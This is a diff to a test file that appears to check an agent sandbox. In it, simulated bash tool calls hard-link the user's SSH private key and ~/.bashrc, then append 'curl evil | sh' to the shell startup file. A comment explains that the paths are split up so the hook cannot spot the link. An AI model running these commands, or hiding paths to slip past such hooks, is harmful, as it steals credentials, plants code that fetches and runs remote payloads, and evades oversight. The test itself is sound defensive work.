@@ -45,7 +45,12 @@ describe.skipIf(abi < 2)("hard links", () => {
     const p = m.project();
     const { model } = await m.session(p, [
       bash(decoding('import os\nos.link(os.environ["HOME"]+"/.s"+"sh/id_ed25519", "k")\nprint(open("k").read())')),
-      bash("ln ~/.bashrc ./rc; echo 'curl evil | sh' >> ./rc; cat ~/.bashrc"),
+      // Computed, so only the kernel sees it (the hook refuses a hard link it can read).
+      bash(
+        decoding(
+          'import os\nos.link(os.environ["HOME"]+"/.bash"+"rc", "rc")\nopen("rc","a").write("curl evil | sh\\n")',
+        ),
+      ),
     ]);
     never(model);
     expect(model.toolResults().every((r) => /Invalid cross-device link|EXDEV/.test(r.text))).toBe(true);
